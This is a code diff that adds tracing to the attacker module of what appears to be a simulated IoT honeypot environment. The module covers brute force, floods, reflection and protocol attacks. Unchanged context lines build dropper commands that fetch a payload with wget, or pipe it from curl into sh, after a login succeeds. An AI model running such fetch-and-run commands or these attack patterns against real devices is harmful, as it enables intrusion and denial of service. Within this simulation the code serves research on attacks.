@@ -2,6 +2,7 @@
 
 #include "attackers/credentials.h"
 #include "net/fabric.h"
+#include "obs/trace.h"
 #include "proto/amqp.h"
 #include "proto/coap.h"
 #include "proto/http.h"
@@ -17,6 +18,25 @@
 namespace ofh::attackers {
 
 namespace {
+
+// Mints a causal id for one attacker primitive and records its kProbe
+// event; the caller keeps the returned id ambient (TraceContext) while it
+// issues the primitive's traffic.
+std::uint64_t trace_attack(net::Host& from, util::Ipv4Addr target,
+                           std::uint16_t port, std::uint8_t protocol_code) {
+  const std::uint64_t trace_id = obs::mint_trace_id();
+  obs::trace_event(obs::TraceEventType::kProbe, from.sim().now(), trace_id,
+                   from.address().value(), target.value(), port,
+                   static_cast<std::uint8_t>(obs::TraceProbeOrigin::kAttacker),
+                   protocol_code);
+  return trace_id;
+}
+
+std::uint64_t trace_attack(net::Host& from, util::Ipv4Addr target,
+                           std::uint16_t port, proto::Protocol protocol) {
+  return trace_attack(from, target, port,
+                      static_cast<std::uint8_t>(protocol));
+}
 
 // Connects, optionally sends a stimulus, reads briefly and aborts.
 void tcp_touch(net::Host& from, util::Ipv4Addr target, std::uint16_t port,
@@ -41,6 +61,8 @@ void tcp_touch(net::Host& from, util::Ipv4Addr target, std::uint16_t port,
 
 void probe_one_protocol(net::Host& from, util::Ipv4Addr target,
                         proto::Protocol protocol) {
+  const obs::TraceContext trace(
+      trace_attack(from, target, proto::default_port(protocol), protocol));
   switch (protocol) {
     case proto::Protocol::kTelnet:
       tcp_touch(from, target, 23, {});
@@ -107,6 +129,8 @@ void probe_all_protocols(net::Host& from, util::Ipv4Addr target) {
 void bruteforce_telnet(net::Host& from, util::Ipv4Addr target,
                        std::vector<proto::Credentials> credentials,
                        const MalwareSample* drop) {
+  const obs::TraceContext trace(
+      trace_attack(from, target, 23, proto::Protocol::kTelnet));
   std::vector<std::string> commands;
   if (drop != nullptr) {
     commands.push_back("wget " + drop->dropper_url + " -O /tmp/" +
@@ -121,6 +145,8 @@ void bruteforce_telnet(net::Host& from, util::Ipv4Addr target,
 void bruteforce_ssh(net::Host& from, util::Ipv4Addr target,
                     std::vector<proto::Credentials> credentials,
                     const MalwareSample* drop) {
+  const obs::TraceContext trace(
+      trace_attack(from, target, 22, proto::Protocol::kSsh));
   std::vector<std::string> commands;
   if (drop != nullptr) {
     commands.push_back("curl -s " + drop->dropper_url + " | sh # sha256=" +
@@ -131,6 +157,8 @@ void bruteforce_ssh(net::Host& from, util::Ipv4Addr target,
 }
 
 void attack_mqtt(net::Host& from, util::Ipv4Addr target, bool poison) {
+  const obs::TraceContext trace(
+      trace_attack(from, target, 1883, proto::Protocol::kMqtt));
   proto::mqtt::ConnectPacket connect;
   connect.client_id = "bot";
   util::Bytes payload = proto::mqtt::encode_connect(connect);
@@ -151,6 +179,8 @@ void attack_mqtt(net::Host& from, util::Ipv4Addr target, bool poison) {
 }
 
 void attack_amqp(net::Host& from, util::Ipv4Addr target, int publish_count) {
+  const obs::TraceContext trace(
+      trace_attack(from, target, 5672, proto::Protocol::kAmqp));
   util::Bytes payload = proto::amqp::protocol_header();
   proto::amqp::Frame auth;
   auth.type = proto::amqp::FrameType::kMethod;
@@ -167,6 +197,8 @@ void attack_amqp(net::Host& from, util::Ipv4Addr target, int publish_count) {
 }
 
 void attack_xmpp(net::Host& from, util::Ipv4Addr target) {
+  const obs::TraceContext trace(
+      trace_attack(from, target, 5222, proto::Protocol::kXmpp));
   from.tcp().connect(target, 5222, [](net::TcpConnection* conn) {
     if (conn == nullptr) return;
     auto stage = std::make_shared<int>(0);
@@ -190,6 +222,8 @@ void attack_xmpp(net::Host& from, util::Ipv4Addr target) {
 }
 
 void attack_coap(net::Host& from, util::Ipv4Addr target, bool poison) {
+  const obs::TraceContext trace(
+      trace_attack(from, target, 5683, proto::Protocol::kCoap));
   from.udp().send(target, 5683,
                   proto::coap::encode(proto::coap::make_discovery_request(7)));
   if (poison) {
@@ -203,6 +237,8 @@ void attack_coap(net::Host& from, util::Ipv4Addr target, bool poison) {
 }
 
 void flood_coap(net::Host& from, util::Ipv4Addr target, int packets) {
+  const obs::TraceContext trace(
+      trace_attack(from, target, 5683, proto::Protocol::kCoap));
   for (int i = 0; i < packets; ++i) {
     from.udp().send(target, 5683,
                     proto::coap::encode(proto::coap::make_discovery_request(
@@ -211,6 +247,8 @@ void flood_coap(net::Host& from, util::Ipv4Addr target, int packets) {
 }
 
 void flood_ssdp(net::Host& from, util::Ipv4Addr target, int packets) {
+  const obs::TraceContext trace(
+      trace_attack(from, target, 1900, proto::Protocol::kUpnp));
   const auto probe = proto::ssdp::encode_msearch(proto::ssdp::MSearch{});
   for (int i = 0; i < packets; ++i) {
     from.udp().send(target, 1900, probe);
@@ -220,6 +258,9 @@ void flood_ssdp(net::Host& from, util::Ipv4Addr target, int packets) {
 void reflect_udp(net::Host& from, util::Ipv4Addr reflector,
                  util::Ipv4Addr victim, proto::Protocol protocol,
                  int packets) {
+  const obs::TraceContext trace(trace_attack(
+      from, reflector, protocol == proto::Protocol::kCoap ? 5683 : 1900,
+      protocol));
   const util::Bytes probe =
       protocol == proto::Protocol::kCoap
           ? proto::coap::encode(proto::coap::make_discovery_request(3))
@@ -233,6 +274,8 @@ void reflect_udp(net::Host& from, util::Ipv4Addr reflector,
 
 void attack_http(net::Host& from, util::Ipv4Addr target, bool scrape,
                  bool bruteforce) {
+  const obs::TraceContext trace(
+      trace_attack(from, target, 80, proto::Protocol::kHttp));
   if (scrape) {
     for (const char* path : {"/", "/admin", "/config", "/backup.zip",
                              "/cgi-bin/luci", "/status"}) {
@@ -253,6 +296,8 @@ void attack_http(net::Host& from, util::Ipv4Addr target, bool scrape,
 }
 
 void flood_http(net::Host& from, util::Ipv4Addr target, int requests) {
+  const obs::TraceContext trace(
+      trace_attack(from, target, 80, proto::Protocol::kHttp));
   proto::http::Request request;
   const auto bytes = proto::http::encode_request(request);
   for (int i = 0; i < requests; ++i) {
@@ -261,6 +306,8 @@ void flood_http(net::Host& from, util::Ipv4Addr target, int requests) {
 }
 
 void attack_smb(net::Host& from, util::Ipv4Addr target, bool exploit) {
+  const obs::TraceContext trace(
+      trace_attack(from, target, 445, proto::Protocol::kSmb));
   proto::smb::SmbFrame negotiate;
   negotiate.command = proto::smb::Command::kNegotiate;
   util::Bytes payload = proto::smb::encode_frame(negotiate);
@@ -281,6 +328,8 @@ void attack_smb(net::Host& from, util::Ipv4Addr target, bool exploit) {
 
 void attack_ftp(net::Host& from, util::Ipv4Addr target,
                 const MalwareSample* drop) {
+  const obs::TraceContext trace(
+      trace_attack(from, target, 21, proto::Protocol::kFtp));
   std::string script = "USER anonymous\r\nPASS bot@bot\r\n";
   if (drop != nullptr) {
     script += "STOR " + drop->variant + ".bin\r\n" + drop->payload.substr(0, 64) +
@@ -291,6 +340,8 @@ void attack_ftp(net::Host& from, util::Ipv4Addr target,
 }
 
 void attack_modbus(net::Host& from, util::Ipv4Addr target, util::Rng& rng) {
+  const obs::TraceContext trace(
+      trace_attack(from, target, 502, proto::Protocol::kModbus));
   util::Bytes payload;
   // ~90% of observed Modbus traffic used invalid function codes (§5.1.4).
   for (int i = 0; i < 10; ++i) {
@@ -312,6 +363,8 @@ void attack_modbus(net::Host& from, util::Ipv4Addr target, util::Rng& rng) {
 }
 
 void attack_s7(net::Host& from, util::Ipv4Addr target, int jobs) {
+  const obs::TraceContext trace(
+      trace_attack(from, target, 102, proto::Protocol::kS7));
   util::Bytes payload = proto::s7::encode_cotp_connect();
   for (int i = 0; i < jobs; ++i) {
     const auto job = proto::s7::encode_pdu(
@@ -323,6 +376,9 @@ void attack_s7(net::Host& from, util::Ipv4Addr target, int jobs) {
 
 void syn_flood_spoofed(net::Host& from, util::Ipv4Addr victim,
                        std::uint16_t port, int packets, util::Rng& rng) {
+  // 0xff: a SYN flood is port-directed, not tied to one IoT protocol.
+  const obs::TraceContext trace(
+      trace_attack(from, victim, port, std::uint8_t{0xff}));
   for (int i = 0; i < packets; ++i) {
     net::Packet packet;
     packet.src = util::Ipv4Addr(static_cast<std::uint32_t>(rng.next()));
@@ -338,6 +394,8 @@ void syn_flood_spoofed(net::Host& from, util::Ipv4Addr victim,
 
 void scan_address(net::Host& from, util::Ipv4Addr target,
                   proto::Protocol protocol, bool masscan_fingerprint) {
+  const obs::TraceContext trace(
+      trace_attack(from, target, proto::default_port(protocol), protocol));
   if (proto::is_udp(protocol)) {
     net::Packet packet;
     packet.src = from.address();
